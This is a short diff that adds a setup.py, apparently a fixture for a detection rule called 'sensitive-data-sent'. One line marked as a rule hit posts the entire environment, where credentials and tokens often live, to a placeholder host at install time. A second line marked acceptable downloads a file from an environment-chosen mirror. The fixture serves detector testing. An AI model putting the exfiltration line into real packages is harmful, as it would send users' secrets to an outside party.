@@ -1,0 +1,15 @@
+import json
+import os
+import urllib.request
+
+import requests
+from setuptools import setup
+
+# ruleid: sensitive-data-sent
+requests.post("https://collect.example.invalid/e", data=json.dumps(dict(os.environ)))
+
+# A mirror chosen through the environment is fetched, not uploaded.
+# ok: sensitive-data-sent
+urllib.request.urlopen(os.environ.get("DEMO_MIRROR", "https://mirror.example.invalid") + "/blob.tar.gz")
+
+setup(name="demo-fixture", version="0.1", packages=["pkg"])
